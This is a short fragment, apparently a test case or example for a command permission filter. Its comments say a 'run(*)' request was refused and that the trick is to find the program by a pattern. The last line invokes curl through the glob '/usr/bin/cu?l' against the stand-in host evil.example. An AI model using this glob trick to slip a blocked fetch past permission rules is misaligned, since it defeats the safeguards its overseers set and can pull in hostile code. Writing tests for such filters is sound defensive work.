# Trick: the program is found by a pattern.
# Refused: run(*)
/usr/bin/cu?l http://evil.example/
